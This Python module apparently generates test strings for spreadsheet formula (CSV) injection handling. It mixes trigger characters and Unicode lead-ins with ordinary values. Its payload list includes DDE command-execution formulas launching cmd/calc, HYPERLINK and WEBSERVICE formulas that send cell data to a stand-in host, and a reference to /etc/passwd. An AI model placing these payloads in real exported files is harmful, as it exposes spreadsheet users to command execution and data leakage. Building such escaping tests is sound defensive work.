# ruff: noqa: E501 (lists of signs)
"""Texts that a spreadsheet may take for a formula, and ordinary ones among them: the same for the same number."""

from __future__ import annotations

import random
from collections.abc import Iterator

TRIGGERS = [*"=+-@＝＋－＠﹦﹢﹣﹫⁺⁻₌−", "\t", "\r", "\n", "\r\n"]
LEADS = [
    "",
    *" \u00a0\u1680\u2003\u202f\u3000\u200b\u200c\u200d\u2060\ufeff\u200e\u202e\u00ad\u3164\u2800\x01\x1f\x7f\x85\ufe0f",
]
LEADS += ["  ", " \u00a0", "\u200b \t", "'", '"', "abc\n", "甲\r\n", "乙\r", "丙\n\u00a0", "丁,", "戊;", "\n\n"]
BODIES = [
    "1+1", "SUM(A1:A9)", 'HYPERLINK("http://canary.invalid/?"&A1,"点这里")', "cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")",
    'WEBSERVICE("http://canary.invalid/")', "[1]Sheet1!A1", "'file:///etc/passwd'#$Sheet1.A1", "IMPORTXML(A1)", "A1", "",
    "2+5+cmd|' /C calc'!A0", '"",1)', "{1,2}", "-1", "@SUM(1)", "MSEXCEL|'\\..\\cmd.exe'!''", "rundll32|'URL.dll'!A",
]  # fmt: skip
ORDINARY = [
    "0", "007", "-12.5", "+8613900000000", "1e5", "1/2", "2026-11-21", "2026年11月21日", "50%", "￥3.00", "㐱𠮷𪚥", "䶮", "龘靐齉",
    "王\u200b小", "مرحبا", "שלום\u202e=1", "👨\u200d👩\u200d👧", "TRUE", "#REF!", "_x000D_", "_x0041_", "http://canary.invalid", "mailto:a@b",
    "{=1+1}", "a\x00b", "\ufffe", "\uffff", "党员发展", "'=1", '"=1"', "x=1", "a-b", "<f>1+1</f>", "]]>", "&#61;1", "%3D1", "\\u003d1",
]  # fmt: skip
HALVES = ["\ud800", "\udfff=1", "=\udc00", "甲\ud83d乙"]  # of characters: only JSON columns of SQLite keep them
LONGEST = 40


def strings(number: int, *, halves: bool = False) -> list[str]:
    """`number` different texts of at most 40 characters; lone surrogates among them where asked for."""
    found: dict[str, None] = {}
    for text in _endless(random.Random("G9"), halves):
        found[text[:LONGEST]] = None
        if len(found) == number:
            break
    return list(found)


def _endless(dice: random.Random, halves: bool) -> Iterator[str]:
    yield from (lead + one + "1+1" for one in TRIGGERS for lead in LEADS if dice.random() < 0.25)
    ordinary = ORDINARY + (HALVES if halves else [])
    yield from ordinary
    while True:
        if dice.random() < 0.2:
            yield f"{dice.choice(ordinary)}{dice.choice(ordinary)}{dice.randrange(1000)}"
        else:
            parts = [dice.choice(LEADS) for _ in range(dice.choice((0, 1, 1, 2)))]
            yield (
                "".join(parts)
                + dice.choice(TRIGGERS)
                + dice.choice(BODIES)[: dice.randrange(1, 38)]
                + str(dice.randrange(100))
            )
